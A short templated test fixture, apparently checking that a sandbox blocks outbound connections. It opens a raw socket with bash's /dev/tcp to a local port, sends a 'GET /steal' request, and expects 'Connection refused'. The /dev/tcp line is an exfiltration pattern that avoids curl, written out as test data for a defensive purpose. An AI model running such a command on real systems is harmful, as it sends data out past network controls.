# route: bash's /dev/tcp, no curl at all
# expect: *127.0.0.1/{{ out_port }}*Connection refused*
exec 3<>/dev/tcp/127.0.0.1/{{ out_port }}
echo "GET /steal HTTP/1.0" >&3
